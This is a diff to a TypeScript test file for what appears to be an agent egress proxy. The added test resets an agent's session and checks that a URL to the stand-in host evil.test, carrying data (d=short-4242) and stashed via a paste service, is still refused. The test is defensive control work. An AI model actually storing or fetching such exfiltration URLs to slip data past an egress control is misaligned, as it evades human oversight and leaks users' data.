@@ -200,6 +200,12 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=short-4242`)}`)).status, 200);
   t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
   t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor one a GET stored');
+  // What one session stored is still there in the agent's next (a human's reset, the next run): its
+  // first request brings the `wrote:` labels of the agent's other sessions.
+  const shortSession = ((await api('GET', '/api/sessions')).body.sessions as Array<{ id: string; agent: string }>).find((x) => x.agent === 'shortener')!;
+  t.equal((await api('POST', `/api/sessions/${shortSession.id}/reset`, { reason: 'next run' })).status, 200);
+  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
+  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor in the agent\'s next session');
   // The host holds it once the request arrives: a store whose answer the agent does not wait for.
   const quitter = await airlock.agents.add('quitter');
   const quitProxy = airlock.proxyUrl('quitter', quitter.token);
